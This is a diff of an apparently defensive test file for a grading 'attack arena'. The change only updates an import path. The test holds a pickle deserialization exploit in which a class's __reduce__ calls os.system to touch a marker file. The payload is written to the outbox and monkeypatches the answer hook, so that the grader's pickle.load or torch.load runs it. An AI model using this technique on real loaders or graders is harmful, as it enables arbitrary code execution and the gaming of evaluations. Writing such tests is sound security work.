@@ -9,7 +9,7 @@ Surface: any `pickle.load` or `torch.load` of the grader's.
 from tests.attacks.arena import Attack
 
 FORGE = """
-import io, litcourse.remote, os, pathlib, pickle, torch
+import io, litcourse.frontends.kernel_entry, os, pathlib, pickle, torch
 class Bomb:
     def __reduce__(self):
         return os.system, (f"touch {TARGETS['marker']}",)
@@ -17,7 +17,7 @@ buffer = io.BytesIO()
 torch.save({"state_dict": Bomb()}, buffer)
 def answer(lab, question, inbox, outbox, namespace):
     pathlib.Path(outbox).write_bytes(pickle.dumps(Bomb()) + buffer.getvalue())
-litcourse.remote.answer = answer
+litcourse.frontends.kernel_entry.answer = answer
 """
 
 ATTACK = Attack(cells=(FORGE,), answer="unsolved", finding="LIT903", points=0)
